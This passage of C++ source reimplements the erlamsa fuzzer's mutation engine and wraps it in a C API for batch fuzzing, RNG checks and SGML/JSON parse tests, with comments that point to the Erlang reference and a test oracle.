  return {b};                                                                  // uncons(B) when is_binary(B) -> {B, []}
}

struct Run {                     // state of one erlamsa_main:fuzzer/1 invocation
  Rnd parent; std::vector<Muta> muta; int gen; /*0 direct,1 random,2 file,3 jump*/ std::vector<PriItem> pats; int pat_total;
};
int lookup_muta(const std::string& n) { for (int i = 0; i < M_COUNT; i++) if (n == MUTA_TABLE[i].name) return i; return -1; }
int lookup_pat(const std::string& n) { for (int i = 0; i < P_COUNT; i++) if (n == PAT_TABLE[i].name) return i; return -1; }

// erlamsa_main:fuzzer/1 :125-163 — per-run setup draws, in order.
void setup_run(Run& run, const Config& cfg, int64_t s1, int64_t s2, int64_t s3) {
  run.parent.seed(s1, s2, s3);                                                // :134
  run.muta = make_mutator(run.parent, cfg.mutations);                         // :149
  // make_generator :244-248 + mux_generators :194-199
  std::vector<PriItem> gs;
  for (auto& g : cfg.generators) { int id = g.first == "direct" ? 0 : g.first == "random" ? 1 : g.first == "file" ? 2 : g.first == "jump" ? 3 : -1; if (id >= 0) gs.push_back({g.second, id}); }
  if (gs.empty()) throw std::runtime_error("No generators!");
  int total; std::vector<PriItem> sg = sort_by_priority(gs, &total);
  run.gen = choose_pri(sg, (int64_t)run.parent.rand((uint64_t)total));
  // make_pattern :416-428 (foldl prepend => reversed table order) + mux_patterns :437-442
  std::vector<PriItem> ps;
  for (int i = 0; i < P_COUNT; i++) for (auto& s : cfg.patterns) if (s.first == i) { ps.insert(ps.begin(), {s.second, i}); break; }
  run.pats = sort_by_priority(ps, &run.pat_total);
}

// One FuzzingLoop iteration :176-221 (worker process body :182-210)
void run_case(Run& run, const Config& cfg, const Bytes& input, Bytes* out, int* status, uint64_t* draws, std::string* trace, std::string* meta = nullptr) {
  int64_t t1 = (int64_t)run.parent.erand(99999), t2 = (int64_t)run.parent.erand(99999), t3 = (int64_t)run.parent.erand(99999);   // gen_predictable_seed :179
  Ctx c; c.cfg = &cfg; c.trace = trace; c.meta = meta;
  EngineGuard guard; guard.max_bytes = cfg.max_case_bytes; guard.max_work = cfg.max_case_work;
  if (cfg.max_case_seconds > 0) { guard.timed = true; guard.deadline = std::chrono::steady_clock::now() + std::chrono::microseconds((int64_t)(cfg.max_case_seconds * 1e6)); }
  if (guard.max_bytes || guard.max_work || guard.timed) c.guard = &guard;     // engine caps requested by the test (not reference behaviour)
  tl_guard = c.guard;
  c.rnd.seed(t1, t2, t3);                                                     // :183
  c.fs = run.muta;                                                            // CurMuta (not advanced between cases, :229-230)
  *status = EO_OK;
  try {
    BList ll;                                                                 // {Ll, GenMeta} = DataGen() :185
    auto path = [&cfg](uint64_t k) { return Bytes(cfg.paths_data + cfg.paths_off[k], cfg.paths_data + cfg.paths_off[k + 1]); };
    if (run.gen == 0) ll = direct_generator(c.rnd, input, cfg.blockscale);
    else if (run.gen == 1) ll = random_stream(c.rnd, cfg.blockscale);
    else if (run.gen == 2) {                                                  // file_streamer :106-121: the path is drawn now, the stream is a fun
      uint64_t p = c.rnd.erand(cfg.paths_n);
      if (p == 0) throw ErlCrash("function_clause: lists:nth(0, [])");
      Bytes f = path(p - 1); double bs = cfg.blockscale; Rnd* r = &c.rnd;
      c.lazy_ll = [f, bs, r]() { return stream_port(*r, f, bs); };
    } else {                                                                  // jump_streamer :136-150
      int64_t p1 = c.rnd.rand_elem_idx(cfg.paths_n), p2 = c.rnd.rand_elem_idx(cfg.paths_n);
      if (p1 < 0 || p2 < 0) throw ErlCrash("file:open([])");
      Bytes f1 = path(p1), f2 = path(p2); double bs = cfg.blockscale; Rnd* r = &c.rnd;
      c.lazy_ll = [f1, f2, bs, r]() { return jump_somewhere(*r, f1, f2, bs); };
    }
    if (run.pats.empty()) throw ErlCrash("no patterns");
    int pat = choose_pri(run.pats, (int64_t)c.rnd.rand((uint64_t)run.pat_total));       // choose_pattern_fun :431-434
    PatEngine pe(c);
    pe.run(pat, ll, c.out);                                                   // :189 + erlamsa_out:output :66-77
    *out = c.out;
  } catch (ErlCrash& e) { out->clear(); *status = EO_CRASHED; if (trace) { trace->append("crash:"); trace->append(e.what()); } }
  catch (Overflow&) { out->clear(); *status = EO_OVERFLOW; }
  catch (Unsupported&) { out->clear(); *status = EO_UNSUPPORTED; }
  catch (Budget&) { out->clear(); *status = EO_BUDGET; }
  catch (Timeout&) { out->clear(); *status = EO_TIMEOUT; }
  tl_guard = nullptr;
  *draws = c.rnd.r.draws;
}

// "-m"/"-p" syntax: erlamsa_cmdparse:string_to_actions :232-257
template <class Lookup>
bool parse_actions(const char* s, Lookup lookup, const std::vector<std::pair<int, int>>& defaults, std::vector<std::pair<int, int>>* out, std::string* err) {
  out->clear();
  std::stringstream ss(s); std::string tok;
  while (std::getline(ss, tok, ',')) {
    if (tok.empty()) continue;
    std::string name = tok; int pri = -1; size_t eq = tok.find('=');
    if (eq != std::string::npos) { name = tok.substr(0, eq); pri = atoi(tok.c_str() + eq + 1); }
    int id = lookup(name);
    if (id < 0) { *err = "No such action: " + name; return false; }
    if (pri < 0) for (auto& d : defaults) if (d.first == id) pri = d.second;
    bool dup = false; for (auto& o : *out) if (o.first == id) { o.second = pri; dup = true; }
    if (!dup) out->push_back({id, pri});
  }
  return true;
}

std::string g_err;

bool build_config(const eo_config* ec, Config* cfg) {
  std::vector<std::pair<int, int>> dm, dp;
  for (int i = 0; i < M_COUNT; i++) dm.push_back({i, MUTA_TABLE[i].pri});
  for (int i = 0; i < P_COUNT; i++) dp.push_back({i, PAT_TABLE[i].pri});
  cfg->mutations = dm; cfg->patterns = dp;
  if (ec->mutations && !parse_actions(ec->mutations, lookup_muta, dm, &cfg->mutations, &g_err)) return false;
  if (ec->patterns && !parse_actions(ec->patterns, lookup_pat, dp, &cfg->patterns, &g_err)) return false;
  cfg->generators = {{"random", 1}, {"direct", 500}};   // erlamsa_gen:default/0 filtered by make_generator_fun for paths=[direct]
  if (ec->generators) {
    cfg->generators.clear();
    // keep erlamsa_gen:generators/0 table order :250-257 (random, jump, direct, file)
    std::stringstream ss(ec->generators); std::string tok; int pr = -1, pd = -1, pf = -1, pj = -1;
    while (std::getline(ss, tok, ',')) {
      std::string name = tok; int pri = -1; size_t eq = tok.find('='); if (eq != std::string::npos) { name = tok.substr(0, eq); pri = atoi(tok.c_str() + eq + 1); }
      if (name == "random") pr = pri < 0 ? 1 : pri; else if (name == "direct") pd = pri < 0 ? 500 : pri;
      else if (name == "file") pf = pri < 0 ? 1000 : pri; else if (name == "jump") pj = pri < 0 ? 100 : pri;
      else { g_err = "unsupported generator " + name; return false; }
    }
    if (pr >= 0) cfg->generators.push_back({"random", pr});
    if (pj >= 0) cfg->generators.push_back({"jump", pj});
    if (pd >= 0) cfg->generators.push_back({"direct", pd});
    if (pf >= 0) cfg->generators.push_back({"file", pf});
  }
  cfg->blockscale = ec->blockscale == 0 ? 1.0 : ec->blockscale;
  if (ec->ssrf_host) cfg->ssrf_host = ec->ssrf_host;
  if (ec->ssrf_port) cfg->ssrf_port = ec->ssrf_port;
  cfg->max_case_bytes = ec->max_case_bytes;
  cfg->max_case_work = ec->max_case_work;
  cfg->max_case_seconds = ec->max_case_seconds;
  return true;
}

}  // namespace

// ===========================================================================
// C API
// ===========================================================================
extern "C" {

const char* eo_last_error(void) { return g_err.c_str(); }
void eo_free(void* p) { free(p); }
void eo_free_result(eo_result* r) { free(r->data); free(r->off); free(r->status); free(r->draws); free(r->trace); memset(r, 0, sizeof(*r)); }

static int eo_fuzz_batch_impl(const eo_config* ec, const uint8_t* data, const uint64_t* off, uint64_t n, int want_trace, eo_result* res) {
  try {
    Config cfg;
    if (!build_config(ec, &cfg)) return 1;
    // Paths of the file / jump generators: the corpus the cases' inputs were cut from, or the batch itself
    if (ec->paths_off) { cfg.paths_data = ec->paths_data; cfg.paths_off = ec->paths_off; cfg.paths_n = ec->paths_n; }
    else { cfg.paths_data = data; cfg.paths_off = off; cfg.paths_n = n; }
    for (auto& g : cfg.generators) if (g.first == "jump" && cfg.paths_n < 2) { g_err = "generator jump needs at least two paths (make_generator_fun :220-224)"; return 1; }
    std::vector<Bytes> outs(n); std::vector<int> st(n); std::vector<uint64_t> dr(n); std::string trace;
    Run run;
    if (ec->mode == 0) {
      setup_run(run, cfg, ec->seed[0], ec->seed[1], ec->seed[2]);
      // cases 1..first_case-1 consume their ThreadSeed draws (3 each) from the parent stream
      for (uint64_t k = 1; k < ec->first_case; k++) { run.parent.erand(99999); run.parent.erand(99999); run.parent.erand(99999); }
    }
    for (uint64_t i = 0; i < n; i++) {
      Bytes input(data + off[i], data + off[i + 1]);
      if (ec->mode == 1) setup_run(run, cfg, ec->seeds[3 * i], ec->seeds[3 * i + 1], ec->seeds[3 * i + 2]);
      std::string tr;
      // want_trace 1: the short form ("pattern:od failed:sgm used:bd "), one line per case; 2: the reference's Meta list in full, every
      // element as ~p prints it on a line of its own, a line "\x1e" behind every case
      run_case(run, cfg, input, &outs[i], &st[i], &dr[i], want_trace == 1 ? &tr : nullptr, want_trace == 2 ? &tr : nullptr);
      if (want_trace == 1) { trace += tr; trace.push_back('\n'); }
      if (want_trace == 2) { trace += tr; trace += "\x1e\n"; }
    }
    uint64_t total = 0; for (auto& o : outs) total += o.size();
    res->data = (uint8_t*)malloc(total ? total : 1);
    res->off = (uint64_t*)malloc(sizeof(uint64_t) * (n + 1));
    res->status = (int32_t*)malloc(sizeof(int32_t) * (n ? n : 1));
    res->draws = (uint64_t*)malloc(sizeof(uint64_t) * (n ? n : 1));
    uint64_t p = 0;
    for (uint64_t i = 0; i < n; i++) { res->off[i] = p; if (!outs[i].empty()) memcpy(res->data + p, outs[i].data(), outs[i].size()); p += outs[i].size(); res->status[i] = st[i]; res->draws[i] = dr[i]; }
    res->off[n] = p;
    res->trace = nullptr; res->trace_len = 0;
    if (want_trace) { res->trace = (char*)malloc(trace.size() + 1); memcpy(res->trace, trace.c_str(), trace.size() + 1); res->trace_len = trace.size(); }
    return 0;
  } catch (std::exception& e) { g_err = e.what(); return 2; }
}

// The restated algorithms recurse as deeply as the reference's list code does (grow/3,
// edit_sublist/4 on deeply nested input), so the batch runs on a thread with a 2 GiB stack.
struct BatchArgs { const eo_config* ec; const uint8_t* data; const uint64_t* off; uint64_t n; int want_trace; eo_result* res; int rc; };
static void* batch_thread(void* p) { BatchArgs* a = (BatchArgs*)p; a->rc = eo_fuzz_batch_impl(a->ec, a->data, a->off, a->n, a->want_trace, a->res); return nullptr; }
int eo_fuzz_batch(const eo_config* ec, const uint8_t* data, const uint64_t* off, uint64_t n, int want_trace, eo_result* res) {
  BatchArgs a{ec, data, off, n, want_trace, res, 0};
  pthread_attr_t at; pthread_attr_init(&at); pthread_attr_setstacksize(&at, (size_t)2 << 30);
  pthread_t th;
  if (pthread_create(&th, &at, batch_thread, &a) != 0) return eo_fuzz_batch_impl(ec, data, off, n, want_trace, res);
  pthread_join(th, nullptr); pthread_attr_destroy(&at);
  return a.rc;
}

void eo_rand_uniforms(int64_t a, int64_t b, int64_t c, uint64_t n, double* out) {
  otp::Random r; r.seed(a, b, c);
  for (uint64_t i = 0; i < n; i++) out[i] = r.uniform();
}

int32_t eo_run_mutator(const char* name, int64_t a, int64_t b, int64_t c3, const uint8_t* in, uint64_t len, uint8_t** out, uint64_t* out_len, uint32_t* nblocks) {
  Config cfg; Ctx c; c.cfg = &cfg; c.rnd.seed(a, b, c3);
  int id = lookup_muta(name);
  if (id < 0) return INT32_MIN;
  Muta m; m.score = 10; m.pri = MUTA_TABLE[id].pri; m.name = id; m.fn = id; m.mask_fun = id == M_SRND ? 3 : 0;
  BList ll{Bytes(in, in + len)};
  int32_t d;
  try { d = run_muta_fn(c, ll, m); } catch (ErlCrash& e) { g_err = e.what(); return INT32_MIN; } catch (Unsupported&) { return INT32_MIN + 1; } catch (Overflow&) { return INT32_MIN + 2; }
  Bytes o; for (auto& x : ll) o.insert(o.end(), x.begin(), x.end());
  *out = (uint8_t*)malloc(o.size() ? o.size() : 1); if (!o.empty()) memcpy(*out, o.data(), o.size());
  *out_len = o.size(); *nblocks = (uint32_t)ll.size();
  return d;
}

int32_t eo_lex_roundtrip(const uint8_t* in, uint64_t len, uint8_t* out) {
  Bytes b(in, in + len); std::vector<Chunk> cs = lex(b); Bytes u = unlex(cs);
  if (u.size() != len) return -1;
  if (len) memcpy(out, u.data(), len);
  return (int32_t)cs.size();
}

// erlamsa_sgml:verify/1 (:768-773): fold_ast(parse(Str)); counts = {N, NT} of build_ast2.  kind 1: erlamsa_json
// fold_ast(tokenize(Bin)) with counts {N, NT, NV}.  Returns 0, -1 for incorrect_sgml / incorrect_json, -2 for a crash.
int32_t eo_parse_fold(int32_t kind, const uint8_t* in, uint64_t len, uint8_t** out, uint64_t* out_len, int64_t* counts) {
  Bytes h(in, in + len), o;
  try {
    if (kind == 0) {
      if (binarish(h)) return -1;
      std::vector<STok> toks = sgml_tokenize(h);
      SBuild b = sgml_build(toks, 0, {});
      if (b.st != 0) return -2;
      sgml_fold(b.ast, o); counts[0] = b.n; counts[1] = b.nt; counts[2] = 0;
    } else {
      std::vector<JTP> toks = json_tokenize(h);
      JCnt cc; long nv = json_count_walk(j_list(toks), 0, cc);
      json_fold(j_list(toks), o); counts[0] = cc.cnt; counts[1] = cc.ct; counts[2] = nv;
    }
  } catch (IncorrectSgml&) { return -1; } catch (IncorrectJson&) { return -1; } catch (SgmlOtherError&) { return -2; } catch (ErlCrash&) { return -2; }
  *out = (uint8_t*)malloc(o.size() ? o.size() : 1); if (!o.empty()) memcpy(*out, o.data(), o.size());
  *out_len = o.size();
  return 0;
}

void eo_sort_by_priority(const int32_t* pri, uint32_t n, uint32_t* perm) {
  std::vector<PriItem> l; for (uint32_t i = 0; i < n; i++) l.push_back({pri[i], (int)i});
  int tot; std::vector<PriItem> s = sort_by_priority(l, &tot);
  for (uint32_t i = 0; i < n; i++) perm[i] = (uint32_t)s[i].id;
}

// Exhaustive check used by tests/test_oracle_rng.py: the reciprocal + one FMA correction that the
// HIP engine uses for B/30269.0, B/30307.0, B/30323.0 equals real IEEE division for every numerator.
uint64_t eo_check_recip_div(void) {
  const double P[3] = {30269.0, 30307.0, 30323.0};
  uint64_t bad = 0;
  for (int k = 0; k < 3; k++) {
    volatile double pr = 1.0 / P[k];
    double r = pr;
    for (int b = 0; b < (int)P[k]; b++) {
      double a = (double)b, qe = a / P[k];
      double q0 = a * r, e = std::fma(-P[k], q0, a), q1 = std::fma(e, r, q0);
      if (std::memcmp(&qe, &q1, 8) != 0) bad++;
    }
  }
  return bad;
}

}  // extern "C"
